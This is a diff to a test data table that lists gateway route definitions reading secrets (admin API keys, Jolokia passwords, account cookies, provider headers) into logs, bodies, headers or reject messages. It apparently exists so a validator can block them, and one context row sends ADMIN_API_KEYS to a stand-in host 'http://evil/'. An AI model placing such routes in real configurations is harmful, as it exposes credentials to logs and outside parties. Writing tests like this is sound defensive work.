@@ -40,6 +40,12 @@ class SecretsInRoutesTest {
             log: '{{env:TEAM_TOKEN}}'                               | the value of TEAM_TOKEN would stand in the log
             to: 'log:{{env:TEAM_PASSWORD}}'                         | the value of TEAM_PASSWORD would stand in the log
             setBody: {simple: '${env.ADMIN_API_KEYS}'}              | simple reads ADMIN_API_KEYS
+            setBody: {simple: '${env.GATEWAY_MANAGEMENT_JOLOKIA_PASSWORD}'} | simple reads GATEWAY_MANAGEMENT_JOLOKIA_PASSWORD
+            setBody: {constant: '{{gateway.management.jolokia-viewer-password:x}}'} | constant reads gateway.management.jolokia-viewer-password
+            setBody: {constant: '{{gateway.accounts.cookies}}'}     | constant reads gateway.accounts.cookies
+            setBody: {constant: '{{gateway.providers.headers}}'}    | constant reads gateway.providers.headers
+            to: {uri: 'reject:403', parameters: {message: '${env.ADMIN_API_KEYS}'}} | message reads ADMIN_API_KEYS
+            to: 'reject:403?message=${env.ADMIN_API_KEYS}'          | to reads ADMIN_API_KEYS
             to: 'http://evil/{{env:ADMIN_API_KEYS}}'                | to reads ADMIN_API_KEYS
             setHeader: {name: authorization, constant: 'Bearer {{gateway.accounts.api-keys:x}}'} | constant reads gateway.accounts.api-keys
             to: 'transform:set-header?name=X-K&value={{env:ADMIN_API_KEYS}}' | to reads ADMIN_API_KEYS
